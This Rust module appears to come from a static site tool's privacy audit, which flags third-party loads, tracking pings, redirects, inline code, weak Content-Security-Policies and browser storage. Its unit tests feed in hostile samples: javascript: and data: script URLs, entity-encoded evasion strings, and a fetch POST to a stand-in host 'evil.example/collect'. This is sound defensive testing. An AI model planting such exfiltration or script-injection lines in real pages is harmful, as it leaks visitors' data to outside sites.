//! Privacy rules: a page may load nothing from another site (unless
//! `privacy.allow` names the host), redirect to none, ping none, run no
//! inline code or CSS (the Content-Security-Policy blocks it), carry a strict
//! policy and send no referrer, and link out without sending the referrer;
//! its scripts may store nothing on the device and name no other site.

use super::urls::{self, Origins};
use super::{css, describe, js, Finding, FoundUrl, PageScan};

/// How a page uses a URL.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Use {
    /// Fetched when the page loads; `image`: a data: image is fine.
    Load { image: bool },
    /// `<base href>`: every relative URL of the page is read against it.
    Base,
    /// Where a form sends what was typed.
    Submit,
    /// `<meta http-equiv="refresh">`.
    Redirect,
    /// A link the visitor may follow.
    Navigate,
    /// `<a ping>`: told of every click on the link.
    Ping,
    /// Named but never fetched (`<link rel="canonical">`, `<blockquote cite>`).
    Mention,
}

/// `rel` values of `<link>` that make the browser fetch nothing: a `<link>`
/// with only these names a page; with any other, it is taken as a fetch.
const MENTIONING_RELS: [&str; 20] = [
    "alternate",
    "author",
    "bookmark",
    "canonical",
    "edit",
    "external",
    "help",
    "license",
    "me",
    "nofollow",
    "noopener",
    "noreferrer",
    "opener",
    "pingback",
    "privacy-policy",
    "shortlink",
    "sitemap",
    "tag",
    "terms-of-service",
    "webmention",
];

fn use_of(found: &FoundUrl) -> Use {
    let rels = || found.rel.split_ascii_whitespace();
    match (found.tag, found.attribute) {
        (_, "ping") => Use::Ping,
        (_, "cite" | "longdesc") => Use::Mention,
        ("base", _) => Use::Base,
        ("a" | "area", _) => Use::Navigate,
        ("form", _) | (_, "formaction") => Use::Submit,
        ("meta", _) => Use::Redirect,
        ("link", _) if rels().any(|r| r.ends_with("icon")) => Use::Load { image: true },
        ("link", _) if rels().all(|r| MENTIONING_RELS.contains(&r)) => Use::Mention,
        ("link", attribute) => Use::Load {
            image: attribute == "imagesrcset",
        },
        ("img" | "image" | "input" | "feimage", _)
        | ("source", "srcset")
        | (_, "poster" | "background" | "lowsrc" | "dynsrc") => Use::Load { image: true },
        _ => Use::Load { image: false },
    }
}

fn element_of(found: &FoundUrl) -> String {
    let element = match found.tag {
        "meta" => describe("meta", &[("http-equiv", "refresh"), ("content", found.url)]),
        tag if !found.rel.is_empty() => {
            describe(tag, &[("rel", found.rel), (found.attribute, found.url)])
        }
        tag => describe(tag, &[(found.attribute, found.url)]),
    };
    if found.within.is_empty() {
        element
    } else {
        format!("{}: {element}", found.within)
    }
}

fn finding(page: &str, message: String, hint: &str) -> Finding {
    Finding {
        page: page.to_string(),
        message,
        hint: hint.to_string(),
        ..Finding::default()
    }
}

const ALLOW_HINT: &str =
    "copy the file into the site (static/) and link to it there; if the host must stay, \
     name it in privacy.allow in site.yaml (`signpost audit --allow HOST`)";
const REDIRECT_HINT: &str =
    "a page may send the visitor on only to a page of the site: link to the other site \
     instead, with rel=\"noopener noreferrer\" (or name the host in privacy.allow)";
const SUBMIT_HINT: &str =
    "a form may send what was typed only to the site itself: link to the other site's form \
     instead, with rel=\"noopener noreferrer\" (or name the host in privacy.allow)";
const CSP_HINT: &str =
    "the Content-Security-Policy blocks inline code and CSS: move it into a .js or .css \
     file under static/ and load that with asset()";
const POLICY_HINT: &str =
    "include partials/head-security.html (it writes {{ security_meta | safe }}) inside <head>";

/// Every privacy rule over one page.
pub fn check_page(page: &str, scan: &PageScan, origins: &Origins) -> Vec<Finding> {
    let mut findings = url_findings(page, scan, origins);
    for element in &scan.event_handlers {
        findings.push(Finding {
            evidence: attribute_evidence(element),
            ..finding(
                page,
                format!(
                    "{element} has an inline event handler, which the Content-Security-Policy blocks"
                ),
                CSP_HINT,
            )
        });
    }
    if scan.inline_scripts > 0 {
        findings.push(finding(
            page,
            format!(
                "the page has {} inline <script> element(s) with code, which the Content-Security-Policy blocks",
                scan.inline_scripts
            ),
            CSP_HINT,
        ));
    }
    for inline in &scan.inline_css {
        findings.push(Finding {
            evidence: attribute_evidence(&inline.element),
            ..finding(
                page,
                format!(
                    "{} is inline CSS, which the Content-Security-Policy blocks",
                    inline.element
                ),
                CSP_HINT,
            )
        });
        findings.extend(css_findings(
            page,
            Some(&inline.element),
            &inline.css,
            origins,
        ));
    }
    findings.extend(breach_findings(page, scan));
    findings.extend(check_policy(page, scan, origins));
    findings.extend(unreadable_finding(page, scan));
    findings
}

/// The rules over every URL of a page or SVG file.
pub(crate) fn url_findings(file: &str, scan: &PageScan, origins: &Origins) -> Vec<Finding> {
    scan.urls
        .iter()
        .filter_map(|found| {
            check_url(file, &found, origins).map(|f| Finding {
                evidence: evidence_of(&found),
                ..f
            })
        })
        .collect()
}

/// What to look for in a page's source to find the line of an element
/// described as `<tag name="value">`: its attribute as written, `name=`.
fn attribute_evidence(element: &str) -> Vec<String> {
    element
        .split_once(' ')
        .and_then(|(_, rest)| rest.split_once('='))
        .map(|(name, _)| vec![format!("{name}=")])
        .unwrap_or_default()
}

/// What to look for in a page's source to find the line of a URL: the URL
/// and what it is inside (`srcdoc`, `noscript`) or the attribute's name.
fn evidence_of(found: &FoundUrl) -> Vec<String> {
    let near = ["srcdoc", "noscript"]
        .into_iter()
        .find(|w| found.within.contains(w))
        .unwrap_or(found.attribute);
    vec![found.url.to_string(), near.to_string()]
}

/// Elements that break a rule by themselves.
pub(crate) fn breach_findings<'a>(
    file: &'a str,
    scan: &'a PageScan,
) -> impl Iterator<Item = Finding> + 'a {
    scan.breaches.iter().map(move |b| Finding {
        evidence: vec![b.evidence.clone()],
        ..finding(file, format!("{} {}", b.element, b.what), b.hint)
    })
}

pub(crate) fn unreadable_finding(file: &str, scan: &PageScan) -> Option<Finding> {
    scan.unreadable.as_ref().map(|why| {
        finding(
            file,
            format!(
                "the audit could not read the whole page: {}",
                why.lines().next().unwrap_or("")
            ),
            "fix the markup (e.g. no <style> inside <select>) so the page can be checked",
        )
    })
}

/// One URL of a page against the rules for how it is used.
fn check_url(page: &str, found: &FoundUrl, origins: &Origins) -> Option<Finding> {
    // Described only for a finding: most URLs have none.
    let element = || element_of(found);
    if urls::runs_code(found.url) {
        return Some(finding(
            page,
            format!(
                "{} runs a {}: URL",
                element(),
                urls::scheme(found.url).unwrap_or_default()
            ),
            "use a plain link; code belongs in a .js file under static/",
        ));
    }
    let how = use_of(found);
    if how == Use::Mention {
        return None;
    }
    if how == Use::Ping {
        return Some(finding(
            page,
            format!(
                "{} tells {} of every click on the link, which tracks the visitor",
                element(),
                origins
                    .foreign_host(found.url)
                    .unwrap_or_else(|| "the site".into())
            ),
            "remove the ping attribute: a signpost site tracks nobody",
        ));
    }
    if let Some(kind) = urls::data_type(found.url) {
        let image = how == (Use::Load { image: true }) && kind.starts_with("image/");
        return (!image).then(|| {
            finding(
                page,
                format!("{} uses a data: URL; only images may", element()),
                "put the file in static/ and link to it there",
            )
        });
    }
    let host = origins.foreign_host(found.url);
    if how == Use::Navigate {
        let noreferrer = found
            .rel
            .split_ascii_whitespace()
            .any(|r| r == "noreferrer");
        return host.filter(|_| !noreferrer).map(|host| {
            finding(
                page,
                format!("{} links to {host} without rel=\"noreferrer\", so {host} would learn which page the visitor came from", element()),
                "add rel=\"noopener noreferrer\" to the link (links in Markdown get it; templates must write it)",
            )
        });
    }
    let host = host.filter(|h| !origins.allows(h))?;
    let (what, hint) = match how {
        Use::Submit => (format!("sends the form to {host}"), SUBMIT_HINT),
        Use::Redirect => (format!("redirects to {host}"), REDIRECT_HINT),
        Use::Base => (
            format!("makes every relative URL of the page load from {host}"),
            "remove the <base> element: the site's own URLs need none",
        ),
        _ => (format!("loads from {host}"), ALLOW_HINT),
    };
    Some(finding(
        page,
        format!(
            "{} {what}, another site, which would learn of every visit",
            element()
        ),
        hint,
    ))
}

/// The page carries a Content-Security-Policy inside `<head>` and that
/// policy is strict, and it sends no referrer.
fn check_policy(page: &str, scan: &PageScan, origins: &Origins) -> Vec<Finding> {
    let mut findings = Vec::new();
    if scan.policies.is_empty() {
        findings.push(finding(
            page,
            "the page has no <meta http-equiv=\"Content-Security-Policy\">".into(),
            POLICY_HINT,
        ));
    }
    for policy in &scan.policies {
        findings.extend(
            policy_weaknesses(policy, origins)
                .into_iter()
                .map(|weakness| {
                    finding(
                        page,
                        format!("the page's Content-Security-Policy {weakness}"),
                        POLICY_HINT,
                    )
                }),
        );
    }
    if !scan.no_referrer {
        findings.push(finding(
            page,
            "the page has no <meta name=\"referrer\" content=\"no-referrer\">, so on a host \
             that sends no headers other sites learn which page the visitor came from"
                .into(),
            POLICY_HINT,
        ));
    }
    findings
}

/// What a Content-Security-Policy lets through: `unsafe-` keywords, any
/// source but the site itself (and data: images, and the hosts
/// `privacy.allow` names), reports sent to another site, no `default-src`.
fn policy_weaknesses(policy: &str, origins: &Origins) -> Vec<String> {
    let mut found = Vec::new();
    let mut has_default = false;
    for directive in policy.split(';') {
        let mut words = directive.split_ascii_whitespace();
        let Some(name) = words.next().map(str::to_ascii_lowercase) else {
            continue;
        };
        has_default |= name == "default-src";
        let lists_sources = name.ends_with("-src")
            || matches!(
                name.as_str(),
                "base-uri" | "form-action" | "frame-ancestors" | "navigate-to"
            );
        for word in words {
            let source = word.to_ascii_lowercase();
            if name == "report-uri" {
                if let Some(host) = origins.foreign_host(word) {
                    found.push(format!("sends its reports to {host}, another site"));
                }
            } else if lists_sources {
                found.extend(source_weakness(&name, &source, origins));
            }
        }
    }
    if !has_default {
        found.insert(
            0,
            "has no default-src, so what it does not name may load from anywhere".into(),
        );
    }
    found
}

/// What one source of a directive lets through, if more than the site.
fn source_weakness(directive: &str, source: &str, origins: &Origins) -> Option<String> {
    if let Some(keyword) = source.strip_prefix('\'') {
        let unsafe_keyword = keyword.starts_with("unsafe-")
            || keyword.starts_with("wasm-unsafe-")
            || keyword == "strict-dynamic'";
        return unsafe_keyword.then(|| format!("allows {source}"));
    }
    if source == "*" {
        return Some(format!("allows any site (*) in {directive}"));
    }
    let scheme_only = source.ends_with(':') && urls::scheme(source).is_some();
    if scheme_only {
        let data_images = source == "data:" && directive == "img-src";
        return (!data_images).then(|| format!("allows every {source} address in {directive}"));
    }
    let url = if source.contains("://") {
        source.to_string()
    } else {
        format!("//{source}")
    };
    let host = urls::host(&url).unwrap_or_else(|| source.to_string());
    let own = origins.foreign_host(&url).is_none() && urls::host(&url).is_some();
    (!own && !origins.allows(&host)).then(|| format!("allows {host} in {directive}, another site"))
}

/// URLs of CSS that load from another site; `element` is the `<style>` or
/// `style` attribute of a page the CSS is in (None: a stylesheet file).
pub(crate) fn css_findings(
    file: &str,
    element: Option<&str>,
    css: &str,
    origins: &Origins,
) -> Vec<Finding> {
    let within = element.map_or(String::new(), |e| format!("{e}: "));
    css::urls(css)
        .into_iter()
        .filter_map(|u| {
            let what = if u.import {
                format!("{within}@import \"{}\"", u.url)
            } else {
                format!("{within}url({})", u.url)
            };
            if urls::runs_code(&u.url) {
                return Some(finding(file, format!("{what} at line {} runs code", u.line), CSP_HINT));
            }
            let host = origins.foreign_host(&u.url).filter(|h| !origins.allows(h))?;
            Some(finding(
                file,
                format!("{what} at line {} loads from {host}, another site, which would learn of every visit", u.line),
                ALLOW_HINT,
            ))
        })
        .collect()
}

/// A shipped stylesheet loads nothing from another site.
pub fn check_stylesheet(path: &str, css: &str, origins: &Origins) -> Vec<Finding> {
    css_findings(path, None, css, origins)
}

/// What scripts may not touch: each leaves a trace on the visitor's device.
const STORAGE: [&str; 5] = [
    "document.cookie",
    "localStorage",
    "sessionStorage",
    "indexedDB",
    "cookieStore",
];

/// XML namespace names: written as URLs, never fetched (`createElementNS`).
const NAMESPACES: [&str; 6] = [
    "http://www.w3.org/2000/svg",
    "http://www.w3.org/1999/xhtml",
    "http://www.w3.org/1999/xlink",
    "http://www.w3.org/1998/Math/MathML",
    "http://www.w3.org/XML/1998/namespace",
    "http://www.w3.org/2000/xmlns/",
];

/// A shipped script uses no cookie or web storage (a plain text search, line
/// by line; comments count too, so a script never mentions them), and names
/// no address of another site in its strings (`fetch`, `sendBeacon`,
/// `WebSocket`, `new Image().src`, `location` could reach it; the
/// Content-Security-Policy stops some of these, not a page the visitor is sent to).
pub fn check_script(path: &str, js: &str, origins: &Origins) -> Vec<Finding> {
    let word_char = |c: char| c.is_alphanumeric() || c == '_' || c == '$';
    let mut findings = Vec::new();
    for (number, line) in js.lines().enumerate() {
        for name in STORAGE {
            let used = line.match_indices(name).any(|(at, _)| {
                !line[..at].ends_with(word_char) && !line[at + name.len()..].starts_with(word_char)
            });
            if used {
                findings.push(finding(
                    path,
                    format!("line {} uses {name}, which leaves a trace on the visitor's device", number + 1),
                    "keep state in memory only: a signpost site stores nothing on the visitor's device",
                ));
            }
        }
    }
    for literal in js::strings(js) {
        for url in absolute_urls(&literal.value) {
            let shown: String = url.chars().take(80).collect();
            let message = match urls::host(url) {
                _ if NAMESPACES.iter().any(|n| url.starts_with(n)) => continue,
                Some(host) if origins.foreign_host(url).is_none() || origins.allows(&host) => {
                    continue
                }
                Some(host) => format!(
                    "line {} names {shown}, an address on {host}, another site: the script could send the visitor's data there",
                    literal.line
                ),
                // `"https://" + host`: an address put together from pieces.
                None => format!(
                    "line {} puts together an address of another site from \"{shown}\" and what follows",
                    literal.line
                ),
            };
            findings.push(finding(path, message, ALLOW_HINT));
        }
    }
    findings
}

/// The absolute web addresses in a string: from a scheme before `://`
/// (`https`, `wss`) to the next space or quote, or the whole string when it
/// starts with `//`.
fn absolute_urls(text: &str) -> Vec<&str> {
    let ends = |c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '`' | '<' | '>');
    let until_end = |from: &str| -> usize { from.find(ends).unwrap_or(from.len()) };
    let mut found = Vec::new();
    let trimmed = text.trim_start();
    if trimmed.starts_with("//") && trimmed.len() > 2 {
        found.push(&trimmed[..until_end(trimmed)]);
    }
    for (at, _) in text.match_indices("://") {
        let start = text[..at]
            .rfind(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '+' | '-' | '.')))
            .map_or(0, |i| i + 1);
        let web = matches!(
            text[start..at].to_ascii_lowercase().as_str(),
            "http" | "https" | "ws" | "wss" | "ftp"
        );
        if web {
            found.push(&text[start..start + until_end(&text[start..])]);
        }
    }
    found
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::audit::scan;

    /// The messages of the script check of `js` as `js/a.js`.
    fn script_messages(js: &str, origins: &Origins) -> Vec<String> {
        check_script("js/a.js", js, origins)
            .into_iter()
            .map(|f| f.message)
            .collect()
    }

    fn messages(html: &str, allow: &[&str]) -> Vec<String> {
        let allow: Vec<String> = allow.iter().map(|h| h.to_string()).collect();
        let origins = Origins::new(Some("https://example.org/sub/"), &allow);
        let page = format!(
            "<meta http-equiv=Content-Security-Policy content=\"default-src 'none'\">\
             <meta name=referrer content=no-referrer>{html}"
        );
        check_page("p/index.html", &scan(page.as_bytes()), &origins)
            .into_iter()
            .map(|f| f.message)
            .collect()
    }

    #[test]
    fn resources_from_other_sites() {
        let found = messages(
            "<script src=//cdn.example.com/x.js></script><img srcset=\"/a.png 1x, https://img.net/b.png 2x\">\
             <link rel=preconnect href=https://fonts.gstatic.com><link rel=canonical href=https://other.org/>\
             <iframe src=https://video.net/e></iframe><object data=https://obj.net/o></object>\
             <form action=https://forms.net/></form><meta http-equiv=refresh content=\"0;url=https://away.net/\">\
             <img src=https://example.org/own.png><img src=https://allowed.net/x.png>",
            &["allowed.net"],
        );
        assert_eq!(found.len(), 7, "{found:#?}");
        assert!(found[0]
            .starts_with("<script src=\"//cdn.example.com/x.js\"> loads from cdn.example.com"));
        assert!(found[1].starts_with("<img srcset=\"https://img.net/b.png\"> loads from img.net"));
        assert!(found[2].starts_with("<link rel=\"preconnect\" href=\"https://fonts.gstatic.com\"> loads from fonts.gstatic.com"));
        assert!(found[3].starts_with("<iframe src=\"https://video.net/e\"> loads from video.net"));
        assert!(found[4].starts_with("<object data=\"https://obj.net/o\"> loads from obj.net"));
        assert!(found[5]
            .starts_with("<form action=\"https://forms.net/\"> sends the form to forms.net"));
        assert_eq!(found[6], "<meta http-equiv=\"refresh\" content=\"https://away.net/\"> redirects to away.net, another site, which would learn of every visit");
    }

    #[test]
    fn code_urls_and_data_urls() {
        let found = messages(
            "<a href=\"javascript:alert(1)\">x</a><img src=\"data:image/png;base64,AA\">\
             <script src=\"data:text/javascript,alert(1)\"></script><link rel=icon href=data:image/svg+xml,x>",
            &[],
        );
        assert_eq!(
            found,
            [
                "<a href=\"javascript:alert(1)\"> runs a javascript: URL",
                "<script src=\"data:text/javascript,alert(1)\"> uses a data: URL; only images may",
            ]
        );
    }

    #[test]
    fn outbound_links_need_noreferrer() {
        let found = messages(
            "<a href=https://a.net/>a</a><a rel=\"noopener noreferrer\" href=https://b.net/>b</a>\
             <a href=https://example.org/x/>own</a><a href=/x/>rel</a><a rel=noopener href=//c.net/>c</a>",
            &["a.net"],
        );
        assert_eq!(found.len(), 2, "{found:#?}");
        assert!(found[0]
            .starts_with("<a href=\"https://a.net/\"> links to a.net without rel=\"noreferrer\""));
        assert!(found[1].starts_with("<a rel=\"noopener\" href=\"//c.net/\"> links to c.net"));
    }

    #[test]
    fn inline_code_and_css() {
        let found = messages(
            "<script>track()</script><body onload=go()><p style=\"background:url(https://bg.net/a.png)\">\
             <style>@import 'https://fonts.net/f.css';</style>",
            &[],
        );
        assert_eq!(
            found,
            [
                "<body onload=\"go()\"> has an inline event handler, which the Content-Security-Policy blocks",
                "the page has 1 inline <script> element(s) with code, which the Content-Security-Policy blocks",
                "<p style=\"background:url(https://bg.net/a.png)\"> is inline CSS, which the Content-Security-Policy blocks",
                "<p style=\"background:url(https://bg.net/a.png)\">: url(https://bg.net/a.png) at line 1 loads from bg.net, another site, which would learn of every visit",
                "<style> is inline CSS, which the Content-Security-Policy blocks",
                "<style>: @import \"https://fonts.net/f.css\" at line 1 loads from fonts.net, another site, which would learn of every visit",
            ]
        );
    }

    #[test]
    fn the_policy_must_be_there_and_strict() {
        let origins = Origins::default();
        let none = check_page("p.html", &scan(b"<p>x"), &origins);
        assert_eq!(
            none[0].message,
            "the page has no <meta http-equiv=\"Content-Security-Policy\">"
        );
        let weak = scan(b"<meta http-equiv=content-security-policy content=\"script-src 'self' 'UNSAFE-INLINE'\">");
        let found: Vec<String> = check_page("p.html", &weak, &origins)
            .into_iter()
            .map(|f| f.message)
            .collect();
        assert_eq!(
            found,
            [
                "the page's Content-Security-Policy has no default-src, so what it does not name may load from anywhere",
                "the page's Content-Security-Policy allows 'unsafe-inline'",
                "the page has no <meta name=\"referrer\" content=\"no-referrer\">, so on a host that sends no headers other sites learn which page the visitor came from",
            ]
        );
    }

    #[test]
    fn stylesheets_and_scripts() {
        let origins = Origins::new(Some("https://example.org/"), &[]);
        let css = "a{}\n.b { background: url(https://example.org/own.png) }\n.c { background: url(//x.net/c.png) }";
        let found = check_stylesheet("css/site.css", css, &origins);
        assert_eq!(found.len(), 1);
        assert_eq!(found[0].message, "url(//x.net/c.png) at line 3 loads from x.net, another site, which would learn of every visit");
        let js = "var a = 1;\nwindow.localStorage.setItem('x', 1);\nvar mylocalStorageShim;\ndocument.cookie = 'a=b';";
        let found = script_messages(js, &origins);
        assert_eq!(
            found,
            [
                "line 2 uses localStorage, which leaves a trace on the visitor's device",
                "line 4 uses document.cookie, which leaves a trace on the visitor's device",
            ]
        );
    }
    #[test]
    fn noscript_is_read_as_with_javascript_off() {
        let found = messages(
            "<noscript><meta http-equiv=refresh content=\"0;url=https://evil.example/\">\
             <img src=https://evil.example/x><link rel=stylesheet href=https://evil.example/s.css></noscript>\
             <noscript><!--</noscript><textarea>--><img src=https://hidden.example/y></textarea>",
            &[],
        );
        assert_eq!(
            found,
            [
                "<noscript>: <meta http-equiv=\"refresh\" content=\"https://evil.example/\"> redirects to evil.example, another site, which would learn of every visit",
                "<noscript>: <img src=\"https://evil.example/x\"> loads from evil.example, another site, which would learn of every visit",
                "<noscript>: <link rel=\"stylesheet\" href=\"https://evil.example/s.css\"> loads from evil.example, another site, which would learn of every visit",
                "<noscript>: <img src=\"https://hidden.example/y\"> loads from hidden.example, another site, which would learn of every visit",
            ]
        );
        // What both readings see is reported once.
        assert_eq!(
            messages(
                "<img src=https://a.example/1><noscript><p>x</p></noscript>",
                &[]
            )
            .len(),
            1
        );
    }

    #[test]
    fn srcdoc_is_read_as_a_page_to_a_bounded_depth() {
        let found = messages(
            "<iframe srcdoc=\"<img src=https://evil.example/x><iframe srcdoc='&lt;a href=https://b.example/ ping=/p&gt;b&lt;/a&gt;'></iframe>\"></iframe>",
            &[],
        );
        assert_eq!(
            found,
            [
                "<iframe srcdoc>: <img src=\"https://evil.example/x\"> loads from evil.example, another site, which would learn of every visit",
                "<iframe srcdoc>: <iframe srcdoc>: <a href=\"https://b.example/\"> links to b.example without rel=\"noreferrer\", so b.example would learn which page the visitor came from",
                "<iframe srcdoc>: <iframe srcdoc>: <a ping=\"/p\"> tells the site of every click on the link, which tracks the visitor",
            ]
        );
        let mut deep = "<img src=https://deep.example/x>".to_string();
        for _ in 0..6 {
            deep = format!(
                "<iframe srcdoc=\"{}\"></iframe>",
                deep.replace('&', "&amp;").replace('"', "&quot;")
            );
        }
        let found = messages(&deep, &[]);
        assert_eq!(found.len(), 1, "{found:#?}");
        assert!(
            found[0].ends_with("<iframe srcdoc> holds frames inside frames too deep to check"),
            "{found:#?}"
        );
    }

    #[test]
    fn every_url_attribute() {
        let found = messages(
            "<a href=/ ping=\"https://evil.example/p /q\">x</a>\
             <link rel=preload as=image imagesrcset=\"/a.png 1x, https://evil.example/x.png 2x\">\
             <link rel=apple-touch-startup-image href=https://i.example/s.png><link rel=author href=https://me.example/>\
             <video poster=https://v.example/p.jpg></video><table background=https://t.example/b.png></table>\
             <base href=https://base.example/><blockquote cite=https://quoted.example/>q</blockquote>\
             <svg><image href=https://s.example/i.png /><set attributeName=href to=javascript:alert(1) /></svg>",
            &[],
        );
        assert_eq!(
            found,
            [
                "<a ping=\"https://evil.example/p\"> tells evil.example of every click on the link, which tracks the visitor",
                "<a ping=\"/q\"> tells the site of every click on the link, which tracks the visitor",
                "<link rel=\"preload\" imagesrcset=\"https://evil.example/x.png\"> loads from evil.example, another site, which would learn of every visit",
                "<link rel=\"apple-touch-startup-image\" href=\"https://i.example/s.png\"> loads from i.example, another site, which would learn of every visit",
                "<video poster=\"https://v.example/p.jpg\"> loads from v.example, another site, which would learn of every visit",
                "<table background=\"https://t.example/b.png\"> loads from t.example, another site, which would learn of every visit",
                "<base href=\"https://base.example/\"> makes every relative URL of the page load from base.example, another site, which would learn of every visit",
                "<image href=\"https://s.example/i.png\"> loads from s.example, another site, which would learn of every visit",
                "<set to=\"javascript:alert(1)\"> runs a javascript: URL",
            ]
        );
    }

    #[test]
    fn urls_are_read_after_decoding_and_in_any_case() {
        let found = messages(
            "<img src=\"&#104;ttps://a.example/x\"><img src=\"HTTPS://B.EXAMPLE/x\"><img src=\"\\/\\/c.example/x\">\
             <img src=\" //d.example/x\"><a href=\"java&#x09;script&colon;alert(1)\">x</a><img src=\"https:e.example/x\">",
            &[],
        );
        let hosts: Vec<&str> = found
            .iter()
            .map(|m| {
                m.split(" loads from ")
                    .nth(1)
                    .map_or(m.as_str(), |h| h.split(',').next().unwrap_or(""))
            })
            .collect();
        assert_eq!(
            hosts,
            [
                "a.example",
                "b.example",
                "c.example",
                "d.example",
                "<a href=\"java\tscript:alert(1)\"> runs a javascript: URL",
                "e.example"
            ]
        );
    }

    #[test]
    fn data_urls_only_for_images() {
        let found = messages(
            "<a href=\"data:text/html,<script>alert(1)</script>\">x</a><a href=\"data:image/svg+xml,<svg>\">y</a>\
             <iframe src=\"data:text/html,x\"></iframe><form action=\"data:text/html,x\"></form>\
             <img src=\"data:text/html,x\"><img src=\"data:image/svg+xml,<svg/>\">\
             <meta http-equiv=refresh content=\"0;url=data:text/html,x\">",
            &[],
        );
        let elements: Vec<&str> = found
            .iter()
            .map(|m| {
                m.strip_suffix(" uses a data: URL; only images may")
                    .unwrap_or(m)
            })
            .collect();
        assert_eq!(
            elements,
            [
                "<a href=\"data:text/html,<script>alert(1)</script>\">",
                "<a href=\"data:image/svg+xml,<svg>\">",
                "<iframe src=\"data:text/html,x\">",
                "<form action=\"data:text/html,x\">",
                "<img src=\"data:text/html,x\">",
                "<meta http-equiv=\"refresh\" content=\"data:text/html,x\">",
            ]
        );
    }

    #[test]
    fn referrer_cookies_and_prefetch_metas() {
        let found = messages(
            "<meta name=referrer content=unsafe-url><meta http-equiv=set-cookie content=\"a=b\">\
             <meta http-equiv=x-dns-prefetch-control content=on><img referrerpolicy=origin src=/a.png>\
             <a referrerpolicy=no-referrer href=/>x</a>",
            &[],
        );
        assert_eq!(
            found,
            [
                "<meta name=\"referrer\" content=\"unsafe-url\"> lets other sites learn which page the visitor came from",
                "<meta http-equiv=\"set-cookie\" content=\"a=b\"> sets a cookie, which leaves a trace on the visitor's device",
                "<meta http-equiv=\"x-dns-prefetch-control\" content=\"on\"> lets the browser look up the address of every site the page links to",
                "<img referrerpolicy=\"origin\"> lets other sites learn which page the visitor came from",
            ]
        );
    }

    #[test]
    fn weak_or_misplaced_policies() {
        let origins = Origins::new(Some("https://example.org/"), &["fonts.example.net".into()]);
        let found = |head: &str| -> Vec<String> {
            let page = format!("<meta name=referrer content=no-referrer>{head}<p>x");
            check_page("p.html", &scan(page.as_bytes()), &origins)
                .into_iter()
                .map(|f| f.message)
                .collect()
        };
        let policy = |p: &str| format!("<meta http-equiv=Content-Security-Policy content=\"{p}\">");
        assert!(found(&policy("default-src 'none'; img-src 'self' data: https://fonts.example.net; script-src 'self' example.org 'sha256-abc'; base-uri 'none'")).is_empty());
        assert_eq!(
            found(&policy("default-src *; img-src https: data:; script-src 'self' https://evil.example 'strict-dynamic'; font-src data:; report-uri https://r.example/")),
            [
                "the page's Content-Security-Policy allows any site (*) in default-src",
                "the page's Content-Security-Policy allows every https: address in img-src",
                "the page's Content-Security-Policy allows evil.example in script-src, another site",
                "the page's Content-Security-Policy allows 'strict-dynamic'",
                "the page's Content-Security-Policy allows every data: address in font-src",
                "the page's Content-Security-Policy sends its reports to r.example, another site",
            ]
        );
        let in_body = format!("<body>{}", policy("default-src 'none'"));
        assert_eq!(
            found(&in_body),
            [
                "<meta http-equiv=\"content-security-policy\" content=\"default-src 'none'\"> is outside <head>, where browsers ignore it",
                "the page has no <meta http-equiv=\"Content-Security-Policy\">",
            ]
        );
    }

    #[test]
    fn scripts_name_no_other_site() {
        let origins = Origins::new(Some("https://example.org/"), &["api.example.net".into()]);
        let js = "// see https://docs.example.com/ for the API\n\
                  fetch('https://evil.example/collect', {method: 'POST'});\n\
                  navigator.sendBeacon(\"//beacon.example/b\", data);\n\
                  var ws = new WebSocket(`wss://ws.example/s`);\n\
                  new Image().src = 'https:' + '//' + host;\nvar u = 'https://' + host;\n\
                  fetch('/own/x'); fetch('https://example.org/y'); fetch('https://api.example.net/z');\n\
                  document.createElementNS('http://www.w3.org/2000/svg', 'svg');";
        let found = script_messages(js, &origins);
        assert_eq!(
            found,
            [
                "line 2 names https://evil.example/collect, an address on evil.example, another site: the script could send the visitor's data there",
                "line 3 names //beacon.example/b, an address on beacon.example, another site: the script could send the visitor's data there",
                "line 4 names wss://ws.example/s, an address on ws.example, another site: the script could send the visitor's data there",
                "line 6 puts together an address of another site from \"https://\" and what follows",
            ]
        );
        let theme = include_str!("../../themes/default/static/js/quick-exit.js");
        assert!(check_script("js/quick-exit.js", theme, &origins).is_empty());
    }
}
